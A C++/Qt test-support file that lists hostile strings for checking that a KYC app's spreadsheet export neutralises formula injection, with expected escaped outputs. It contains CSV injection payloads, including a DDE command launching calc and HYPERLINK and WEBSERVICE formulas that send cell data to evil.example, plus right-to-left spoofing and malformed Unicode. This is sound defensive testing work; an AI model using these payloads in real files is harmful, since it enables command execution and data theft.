// SPDX-FileCopyrightText: 2026 KYC Desk contributors
// SPDX-License-Identifier: MIT
#include "support/hostiletexts.h"

namespace {

QList<HostileText> formulas()
{
    const QList<std::pair<const char *, QString>> texts{
        {"formula", QStringLiteral("=1+1")},
        {"command", QStringLiteral("=cmd|' /C calc'!A0")},
        {"link", QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")},
        {"web service", QStringLiteral("=WEBSERVICE(\"http://evil.example/\"&A1)")},
        {"plus", QStringLiteral("+1+1")},
        {"plus before a telephone number", QStringLiteral("+49 30 1234567")},
        {"minus", QStringLiteral("-2+3+cmd|' /C calc'!A0")},
        {"at", QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0")},
        {"tab alone", QStringLiteral("\t")},
        {"blank before", QStringLiteral(" =1+1")},
        {"blanks before", QStringLiteral("    =1+1")},
        {"no-break space before", QStringLiteral("\u00A0=1+1")},
        {"ideographic space before", QStringLiteral("\u3000=1+1")},
        {"zero width space before", QStringLiteral("\u200B=1+1")},
        {"mark before", QStringLiteral("\uFEFF=1+1")},
        {"right-to-left mark before", QStringLiteral("\u200F=1+1")},
        {"override before", QStringLiteral("\u202E=1+1")},
        {"control character before", QStringLiteral("\x01=1+1")},
        {"full-width equals", QStringLiteral("\uFF1D1+1")},
        {"full-width plus", QStringLiteral("\uFF0B1+1")},
        {"full-width minus", QStringLiteral("\uFF0D1+1")},
        {"full-width at", QStringLiteral("\uFF20SUM(1)")},
        {"small equals", QStringLiteral("\uFE661+1")},
        {"minus sign", QStringLiteral("\u22121")},
        {"formula in quotes", QStringLiteral("=\"a\"&\"b\"")},
        {"formula over lines", QStringLiteral("=1+\r\n1")},
        {"separator in a formula", QStringLiteral("=SUM(1;2,3)")},
    };
    QList<HostileText> rows;
    for (const auto &[name, text] : texts)
        rows.append({name, text, text, u'\'' + text, true});
    return rows;
}

/// Which are one also for who takes the tab or the line end for a separator.
QList<HostileText> formulasBehindABreak()
{
    return {
        {"tab before", QStringLiteral("\t=1+1"), QStringLiteral("\t=1+1"), QStringLiteral("'\t'=1+1"), true},
        {"carriage return before", QStringLiteral("\r=1+1"), QStringLiteral("\r=1+1"), QStringLiteral("'\r'=1+1"),
         true},
        {"line feed before", QStringLiteral("\n=1+1"), QStringLiteral("\n=1+1"), QStringLiteral("'\n'=1+1"), true},
        {"both before", QStringLiteral("\r\n=1+1"), QStringLiteral("\r\n=1+1"), QStringLiteral("'\r\n'=1+1"), true},
        {"blank and tab before", QStringLiteral(" \t=1+1"), QStringLiteral(" \t=1+1"), QStringLiteral("' \t'=1+1"),
         true},
        {"two formulas", QStringLiteral("=1+1;=2+2"), QStringLiteral("=1+1;=2+2"), QStringLiteral("'=1+1;'=2+2"), true},
    };
}

/// Nothing runs them as they are written; some do when the file is opened with another separator.
QList<HostileText> formulasWithin()
{
    const auto row = [](const char *name, const QString &text, const QString &guarded) {
        return HostileText{name, text, text, guarded, false};
    };
    return {
        row("equals further in", QStringLiteral("a=1+1"), QStringLiteral("a=1+1")),
        row("apostrophe before a formula", QStringLiteral("'=1+1"), QStringLiteral("'=1+1")),
        row("quote before a formula", QStringLiteral("\"=1+1\""), QStringLiteral("\"=1+1\"")),
        row("date and minus", QStringLiteral("2025-01-02; a - b; c"), QStringLiteral("2025-01-02; a - b; c")),
        row("comma before a formula", QStringLiteral(",=1+1"), QStringLiteral(",'=1+1")),
        row("semicolon before a formula", QStringLiteral(";=1+1"), QStringLiteral(";'=1+1")),
        row("command behind a semicolon", QStringLiteral("x;=cmd|' /C calc'!A0"),
            QStringLiteral("x;'=cmd|' /C calc'!A0")),
        row("command behind a comma", QStringLiteral("x,@SUM(1)"), QStringLiteral("x,'@SUM(1)")),
        row("command behind a bar", QStringLiteral("x|+1+1"), QStringLiteral("x|'+1+1")),
        row("command behind a tab", QStringLiteral("x\t-1+1"), QStringLiteral("x\t'-1+1")),
        row("command behind a blank", QStringLiteral("x; \u00A0\u200B=1+1"), QStringLiteral("x;' \u00A0\u200B=1+1")),
        row("full-width behind a semicolon", QStringLiteral("x;\uFF1D1+1"), QStringLiteral("x;'\uFF1D1+1")),
        row("command behind a quote", QStringLiteral("x;\"=1+1\""), QStringLiteral("x;'\"=1+1\"")),
        row("command behind quotes", QStringLiteral("x;\"\" \"=1+1"), QStringLiteral("x;'\"\" \"=1+1")),
        row("command behind a line feed", QStringLiteral("x\n=1+1"), QStringLiteral("x\n'=1+1")),
        row("command behind a carriage return", QStringLiteral("x\r=1+1"), QStringLiteral("x\r'=1+1")),
        row("command behind both", QStringLiteral("x\r\n=1+1"), QStringLiteral("x\r\n'=1+1")),
        row("commands behind each", QStringLiteral("x;=1,=2|=3\n=4"), QStringLiteral("x;'=1,'=2|'=3\n'=4")),
        row("separators behind each other", QStringLiteral("x;,;=1"), QStringLiteral("x;,;'=1")),
        row("a cell that is closed and a formula", QStringLiteral("x\",=1+1,\""), QStringLiteral("x\",'=1+1,\"")),
        row("a record that is closed and a formula", QStringLiteral("x\"\r\n=1+1,\""),
            QStringLiteral("x\"\r\n'=1+1,\"")),
    };
}

QList<HostileText> marks()
{
    const QList<std::pair<const char *, QString>> texts{
        {"empty", QString()},
        {"blanks", QStringLiteral("  ")},
        {"blanks around", QStringLiteral("  a  ")},
        {"all separators", QStringLiteral("a,b;c\td|e")},
        {"quote", QStringLiteral("\"")},
        {"quotes", QStringLiteral("\"\"\"\"")},
        {"quotes around", QStringLiteral("\"a\"")},
        {"quote and separator", QStringLiteral("\",\"")},
        {"apostrophe", QStringLiteral("'")},
        {"backslash and quote", QStringLiteral("\\\"")},
        {"line feed", QStringLiteral("a\nb")},
        {"carriage return", QStringLiteral("a\rb")},
        {"both", QStringLiteral("a\r\nb")},
        {"line feed at the end", QStringLiteral("a\n")},
        {"line ends alone", QStringLiteral("a\r\n\r\n\n\r")},
        {"other line ends",
         QStringLiteral("a\u0085b\u2028c\u2029d\x0B"
                        "e\x0C"
                        "f")},
        {"control characters", QStringLiteral("a\x01\x02\x07\x08\x0E\x1B[31m\x1A\x7F")},
        {"right to left", QStringLiteral("\u202Egnp.exe\u202C \u2067x\u2069 \u200E")},
        {"Arabic and Hebrew", QStringLiteral("عربى עברית")},
        {"mark in front", QStringLiteral("\uFEFFx")},
        {"two marks in front", QStringLiteral("\uFEFF\uFEFFx")},
        {"emoji", QStringLiteral("👩‍👩‍👧‍👦🏳️‍🌈😀")},
        {"combining", QStringLiteral("e\u0301 n\u0303 Z\u0351\u036B\u0343")},
        {"no characters", QStringLiteral("\uFFFE\uFFFF\U0010FFFF")},
        {"leading zeros", QStringLiteral("00042")},
        {"long digits", QStringLiteral("12345678901234567890")},
        {"exponent", QStringLiteral("12E5")},
        {"percent, entity, tag", QStringLiteral("100% &amp; <b>%n</b> %1")},
        {"sep=", QStringLiteral("sep=;")},
        {"the word NULL", QStringLiteral("NULL")},
    };
    QList<HostileText> rows;
    for (const auto &[name, text] : texts)
        rows.append({name, text, text, text, false});
    return rows;
}

QList<HostileText> noText()
{
    const QChar nul(u'\0');
    const QChar high(0xD83D);
    const QChar low(0xDE00);
    const QString replaced(QChar::ReplacementCharacter);
    const auto row = [](const char *name, const QString &text, const QString &written) {
        return HostileText{name, text, written, written, false};
    };
    return {
        row("NUL", QStringLiteral("a") + nul + u'b', u'a' + replaced + u'b'),
        row("NUL alone", QString(nul), replaced),
        row("NUL and a quote", nul + QStringLiteral("\""), replaced + u'"'),
        {"NUL before a formula", nul + QStringLiteral("=1+1"), replaced + QStringLiteral("=1+1"),
         u'\'' + replaced + QStringLiteral("=1+1"), true},
        row("half a pair", QStringLiteral("a") + high + u'b', u'a' + replaced + u'b'),
        row("the other half", low + QStringLiteral("b"), replaced + u'b'),
        row("halves turned round", QString(low) + high, replaced + replaced),
        row("half a pair at the end", QStringLiteral("a") + high, u'a' + replaced),
    };
}

QList<HostileText> longTexts()
{
    constexpr qsizetype kMib = qsizetype{1024} * 1024;
    const QList<std::pair<const char *, QString>> texts{
        {"1 MiB", QString(kMib, u'x')},
        {"1 MiB of quotes", QString(kMib, u'"')},
        {"1 MiB of lines", QStringLiteral("line,\r\n").repeated(kMib / 7)},
        {"1 MiB of three bytes each", QString(kMib, QChar(0x65E5))},
    };
    QList<HostileText> rows;
    for (const auto &[name, text] : texts)
        rows.append({name, text, text, text, false});
    return rows;
}

} // namespace

QList<HostileText> hostileTexts()
{
    return formulas() + formulasBehindABreak() + formulasWithin() + marks() + noText() + longTexts();
}
